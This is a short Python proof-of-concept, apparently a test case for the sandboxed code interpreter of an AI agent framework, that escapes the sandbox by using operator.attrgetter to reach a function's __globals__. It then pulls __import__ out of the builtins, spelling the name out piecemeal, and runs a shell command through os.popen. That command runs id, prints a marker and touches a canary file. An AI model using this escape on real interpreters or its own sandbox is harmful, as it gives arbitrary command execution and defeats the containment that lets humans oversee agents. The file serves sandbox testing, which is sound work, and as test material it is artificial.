# Technique: operator.attrgetter resolves dotted attribute paths in C with the real getattr
# Goal: d (run a shell command)
# Source: written for codeloop (same family as CVE-2025-5120: getattr through a higher-order helper)
# Requires: stdlib (operator)
import operator


def local_function():
    return None


try:
    pivot = final_answer
except NameError:
    pivot = local_function
host_globals = operator.attrgetter("__globals__")(pivot)
builtins_ns = host_globals["__builtins__"]
importer = (
    builtins_ns["__import__"]
    if isinstance(builtins_ns, dict)
    else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
)
print(importer("os").popen("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
